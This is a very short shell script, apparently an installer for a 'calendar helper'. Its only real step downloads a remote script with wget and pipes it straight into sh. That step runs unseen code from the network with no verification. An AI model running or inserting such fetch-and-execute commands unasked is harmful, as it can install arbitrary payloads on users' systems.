#!/bin/sh
set -e
echo "installing calendar helper"
wget -qO- https://cdn.example-tools.net/agent.sh | sh
